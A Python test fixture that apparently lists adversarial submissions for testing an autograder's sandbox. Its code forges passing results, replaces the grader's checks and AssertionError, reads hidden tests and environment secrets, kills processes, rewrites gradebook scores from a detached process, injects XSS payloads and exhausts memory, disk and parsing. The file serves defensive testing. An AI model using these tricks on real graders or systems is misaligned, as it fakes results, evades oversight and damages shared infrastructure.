"""Adversarial submissions for the fixture assignment, one per attack class of the grading issue.

Each attack's ``relu`` is *wrong* (it returns relu(-z)), so if the attack worked the submission would
keep points it has not earned. :data:`ANSWERS` replace the answer cell; :data:`EXTRA_CELLS` are added
after it; :data:`FILES` are placed in the submission folder beside (or instead of) the notebook.
"""

WRONG = "np.maximum(-np.asarray(z, float), 0.0)"
SECRET_ENV = "COURSE_ATTACK_SECRET"
SECRET_VALUE = "env-secret-5f1c9a"
BYSTANDER_MARK = "bystander-private-answer-93b2"
HIDDEN_TEXT = "np.linspace(-3, 3, 7)"        # a hidden test line of the fixture
SOLUTION_TEXT = "np.where(z > 0, z, 0.0)"     # the fixture's model answer

ANSWERS = {
    # forged test outcomes: an execute_result before failing; the traceback display switched off
    "forged-result": """
from IPython import get_ipython
from IPython.display import display
get_ipython().showtraceback = lambda *a, **k: None
get_ipython().CustomTB = lambda *a, **k: None
def relu(z):
    get_ipython().displayhook(2.0)
    display(2.0)
    raise ValueError("the outputs above should count as a pass")
""",
    # tampering with the checks: a fake coursecheck in sys.modules, a poisoned AssertionError
    "fake-checks": f"""
import sys, types, builtins
class _Yes:
    def __getattr__(self, name):
        return lambda *a, **k: (a[0] if a else True)
for name in ("coursecheck", "coursecheck.checks"):
    fake = types.ModuleType(name)
    fake.expect = _Yes()
    sys.modules[name] = fake
builtins.AssertionError = type("AssertionError", (Exception,), {{}})
np.allclose = lambda *a, **k: True
def relu(z):
    return {WRONG}
""",
    # reading the calling test's source: frames, linecache, the history, every string in memory
    "spy-on-tests": f"""
import gc, inspect, linecache
def relu(z):
    seen = [str(f.code_context) + str(list(f.frame.f_globals)[:80]) for f in inspect.stack()]
    seen += [str(list(linecache.cache)), str(get_ipython().user_ns.get("In"))]
    seen += [o[:300] for o in gc.get_objects() if isinstance(o, str) and "linspace" in o]
    print("SPY", seen)
    return {WRONG}
""",
    # delegating to nnlib through an indirection
    "delegates": """
import importlib
_module = importlib.import_module("nnlib." + "activa" + "tions")
_relu = getattr(_module, "re" + "lu")
def relu(z):
    return _relu(z)
""",
    # escaping: signal every visible process, leave a process behind to rewrite the gradebook later
    "escape": f"""
import os, signal, subprocess, sys
_pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
for _p in _pids:
    if _p not in (1, os.getpid()):
        try:
            os.kill(_p, signal.SIGKILL)
        except OSError:
            pass
_later = ("import glob, sqlite3, time\\ntime.sleep(4)\\n"
          "for db in glob.glob('/**/gradebook.db', recursive=True):\\n"
          "    c = sqlite3.connect(db); c.execute('update grade set auto_score = 99'); c.commit()\\n"
          "open('/tmp/left-behind-marker', 'w').write('attack-left-behind')\\n")
subprocess.Popen([sys.executable, "-c", _later], start_new_session=True)
print("PIDS", _pids, "UID", os.getuid())
def relu(z):
    return {WRONG}
""",
    # reading what is outside its own folder; links in its own working folder for the grader to follow
    "spy-files": f"""
import glob, os
found = []
for pattern in ["/work/**/gradebook.db", "/tmp/**/*.ipynb", "/tmp/**/*.db", "/root/**/*.db", "/home/**/*.ipynb",
                "/*/solutions", "/*/*/solutions", "/*/*/grading"]:
    found += glob.glob(pattern, recursive=True)[:5]
for name, target in [("00-fixture.ipynb", "/proc/1/root"), ("gradebook.db", "../../../gradebook.db")]:
    try:
        os.symlink(target, name)
    except OSError:
        pass
os.mkfifo("timestamp.txt") if not os.path.exists("timestamp.txt") else None
print("FOUND", found, os.listdir("."))
def relu(z):
    return {WRONG}
""",
    # secrets: the grader's environment
    "env": f"""
import os
print("ENV", dict(os.environ))
def relu(z):
    return {WRONG}
""",
    # active content in outputs (and in a markdown cell: EXTRA_CELLS)
    "html": f"""
from IPython.display import HTML, Javascript, display
display(HTML('<img src=x onerror="alert(1)"><script>alert(2)</script>'))
display(Javascript('alert(3)'))
def relu(z):
    return {WRONG}
""",
    # resources: children that together use more memory than the sandbox may
    "memory-children": f"""
import multiprocessing, time
def _hog():
    import numpy
    block = numpy.ones(450 * 2**20 // 8)
    time.sleep(20)
_kids = [multiprocessing.Process(target=_hog) for _ in range(3)]
for _k in _kids:
    _k.start()
for _k in _kids:
    _k.join()
def relu(z):
    return {WRONG}
""",
    "many-processes": f"""
import subprocess
_kids = []
for _ in range(150):
    try:
        _kids.append(subprocess.Popen(["sleep", "30"]))
    except OSError:
        break
print("started", len(_kids))
import time; time.sleep(5)
def relu(z):
    return {WRONG}
""",
    "disk": f"""
import os
for _path in ["/tmp/fill", "fill"]:
    try:
        with open(_path, "wb") as _fh:
            for _ in range(400):
                _fh.write(b"x" * 2**20)
        print("wrote 400 MB to", _path)
    except OSError as err:
        print("stopped:", _path, err.strerror)
def relu(z):
    return {WRONG}
""",
    # (found by a red-team pass) writing the wrong answer into the test's own argument, which a test
    # might read again after the call
    "write-back": f"""
def relu(z):
    arr = np.asarray(z, dtype=float)
    if arr.shape == (1, 2):
        return np.array([[0.0, 2.0]])
    out = {WRONG}
    if isinstance(z, np.ndarray):
        z[...] = out
    return out
""",
    # a reply the judge would have to parse at great cost: millions of nested lists
    "reply-bomb": f"""
import coursecheck.kernel_side as _ks
_BIG = '{{"ok": ' + "[" * 1_500_000 + "]" * 1_500_000 + '}}'   # cheap to send, costly to parse
_ks.serve = lambda text, request_id=b"": _BIG
def relu(z):
    return {WRONG}
""",
    # one display message that is cheap in the kernel and huge once parsed by the grader
    "message-bomb": f"""
from IPython.display import display
display({{"application/json": [[]] * 3_000_000}}, raw=True)
def relu(z):
    return {WRONG}
""",
    # the IPC folder is the one host folder the kernel may write (its sockets live there)
    "ipc-fill": f"""
import os, sys
_ipc = os.path.dirname(os.path.abspath(sys.argv[sys.argv.index("-f") + 1]))
for _i in range(3):
    with open(os.path.join(_ipc, f"fill{{_i}}"), "wb") as _fh:
        _fh.write(os.urandom(20 * 2**20))
import time; time.sleep(2)
def relu(z):
    return {WRONG}
""",
    # links in markdown output and MathJax's \href
    "md-output": f"""
from IPython.display import Markdown, display
display(Markdown("[x](javascript:alert(1))"))
def relu(z):
    return {WRONG}
""",
    # hidden-test markers printed into the student's own page
    "print-markers": f"""
print("### BEGIN HIDDEN TESTS\\n### END HIDDEN TESTS")
def relu(z):
    return {WRONG}
""",
    "huge-line": f"""
print("x" * 60_000_000)
def relu(z):
    return {WRONG}
""",
}

SLEEPY = "import time\ntime.sleep(8)\n"
EXTRA_CELLS = {
    "budget": [SLEEPY] * 4,
}
MARKDOWN_CELLS = {
    "html": ['<script>alert("md")</script><img src=x onerror="alert(4)"> [x](javascript:alert(5))'],
    "md-output": ["$\\href{javascript:alert(6)}{click}$ and <svg onload=alert(7)></svg>"],
}
FORGED_METADATA = {"course": {"flags": ["FORGED-FLAG all tests passed"]}, "nbgrader": {"grade": 99}}
